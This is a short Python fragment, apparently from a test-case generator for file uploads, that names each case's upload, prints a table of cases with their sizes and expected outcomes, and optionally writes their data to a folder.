def upload_name(case: Case) -> str:
    """The name a case is uploaded under: its own, so a page showing a file's name shows which case it is."""
    return f"{case.name}-{case.filename}"


def main(argv: list[str]) -> None:
    folder = Path(argv[0]) if argv else None
    for c in cases():
        print(f"{c.name:24} {len(c.data):>10,} B  {', '.join(f'{k}: {v}' for k, v in c.expect.items()):40} {c.why}")
        if folder:
            folder.mkdir(parents=True, exist_ok=True)
            (folder / f"{c.name}__{Path(c.filename).name}").write_bytes(c.data)


if __name__ == "__main__":
    main(sys.argv[1:])
